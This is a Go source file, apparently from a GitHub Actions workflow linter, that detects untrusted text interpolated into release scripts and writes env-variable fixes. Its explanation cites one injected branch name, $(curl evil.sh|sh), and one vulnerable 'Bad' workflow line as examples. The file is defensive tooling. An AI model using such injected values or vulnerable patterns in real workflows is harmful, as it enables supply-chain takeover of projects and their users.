// SPDX-License-Identifier: BSD-3-Clause

package publish

import (
	"strings"

	"github.com/scientific-python/sallyport/internal/finding"
	"github.com/scientific-python/sallyport/internal/workflow/edit"
	"github.com/scientific-python/sallyport/internal/workflow/expr"
	"github.com/scientific-python/sallyport/internal/workflow/graph"
	"github.com/scientific-python/sallyport/internal/workflow/known"
)

var _ = register(finding.Rule{
	ID:       "untrusted-text-in-script",
	Severity: finding.Error,
	Waivable: true,
	Title:    "Text that others choose becomes part of a script on the path to the index",
	Why: "GitHub puts ${{ … }} into the script before a shell reads it. A branch called $(curl evil.sh|sh), or a title or commit message like that, " +
		"is then a command: this is how a project's releases were taken over in December 2024. It is an error where anybody with an account " +
		"can choose the text, and a warning where only people who may push or start runs can. Handed over as an environment variable, the text stays text.",
	Bad:        "- run: git pull origin ${{ github.head_ref || github.ref }}",
	Good:       "- run: git pull origin \"$BRANCH\"\n  env:\n    BRANCH: ${{ github.head_ref || github.ref }}",
	References: []string{"PyPI: Supply-chain attack analysis: Ultralytics (2024-12-11)", "SSDF PW.5.1"},
}, func(a *audit, rule *finding.Rule) {
	for _, sp := range a.spots {
		for _, s := range sp.steps() {
			found := taintsOf(s).in(func(f func(i int) bool) { sp.onPath(s, f) })
			if len(found) > 0 {
				a.addTaints(rule, sp, s, found)
			}
		}
	}
})

func (a *audit) addTaints(rule *finding.Rule, sp *spot, s *graph.Step, found []taint) {
	worst := found[0]
	var texts []string
	seen := map[string]bool{}
	for _, t := range found {
		if t.who < worst.who {
			worst = t
		}
		if !seen[t.text] {
			seen[t.text] = true
			texts = append(texts, t.text)
		}
	}
	who := map[expr.Setter]string{
		expr.Outsider:   "anybody with an account",
		expr.Pusher:     "whoever may push a branch or tag, or make a release,",
		expr.Dispatcher: "whoever may start or call the workflow",
	}[worst.who]
	script, hint := "its script", "hand the text over in env: and use the variable, in quotes, in the script"
	if worst.in != "" {
		script = "what its action runs as a script (input " + worst.in + ")"
		hint = "hand the action only text that no outsider can choose, or that a step before it has checked"
		if s.Known.Role == known.Unknown || s.Uses != nil && s.Uses.Name() == "actions/github-script" {
			hint = "hand the text over in env: and read it there (process.env) in the script"
		}
	}
	f := a.at(rule, sp.job, s.File, worst.line, hint,
		"a step of job %q, which %s, puts %s into %s; %s chooses the text of %q, and with it commands of the script; expected a text that cannot be code",
		sp.job.Job.ID.Value, sp.part(), several(texts), script, who, worst.path)
	if worst.who != expr.Outsider {
		f.Severity = finding.Warning
	}
	f.Fix = byVariable(a.source(s.File), s, worst)
	a.add(sp.cap(f))
}

// byVariable writes the script's line with a variable in the expression's
// place, and the variable above it; "" where the line is more than that.
func byVariable(src edit.Source, s *graph.Step, t taint) string {
	line := src.Line(t.line)
	written := t.text
	if !strings.Contains(line, written) {
		// In a composite action an input stands where the text is put.
		written = onlyExpression(line)
	}
	before, _, ok := strings.Cut(line, written)
	if s.Step == nil || t.in != "" || written == "" || !ok || strings.Contains(line, " -c ") || strings.Count(before, "'")%2 == 1 {
		return ""
	}
	name := variableFor(t.path)
	use := "$" + name
	if s.Job.Windows {
		use = "$env:" + name
	}
	if strings.Count(before, `"`)%2 == 0 {
		use = `"` + use + `"`
	}
	pad := strings.Repeat(" ", max(0, min(s.Step.Pos.Column-1, 80)))
	out := []string{pad + "env:", pad + "  " + name + ": " + written}
	if len(s.Step.Env) > 0 {
		out = []string{pad + "# in env:", out[1]}
	}
	if !strings.Contains(line, "run:") {
		out = append(out, pad+"run: |")
	}
	return strings.Join(append(out, strings.ReplaceAll(dashless(line), written, use)), "\n")
}

// onlyExpression is the one expression of a line, "" for none or several.
func onlyExpression(line string) string {
	open := strings.Index(line, "${{")
	end := strings.LastIndex(line, "}}")
	if open < 0 || end < open || strings.Count(line, "${{") != 1 {
		return ""
	}
	return line[open : end+2]
}

// dashless is a line without the dash that begins a list's entry: another line
// comes before it.
func dashless(line string) string {
	trimmed := strings.TrimLeft(line, " ")
	if after, ok := strings.CutPrefix(trimmed, "- "); ok {
		return line[:len(line)-len(trimmed)] + "  " + after
	}
	return line
}

// variableFor is a name for the variable that holds a reference.
func variableFor(path string) string {
	path = strings.TrimPrefix(path, "github.event.")
	path = strings.TrimPrefix(path, "github.")
	name := strings.Map(func(r rune) rune {
		switch {
		case 'a' <= r && r <= 'z':
			return r - 'a' + 'A'
		case 'A' <= r && r <= 'Z' || '0' <= r && r <= '9':
			return r
		}
		return '_'
	}, path)
	if name = strings.Trim(name, "_"); name == "" || len(name) > 40 {
		return "TEXT"
	}
	return name
}
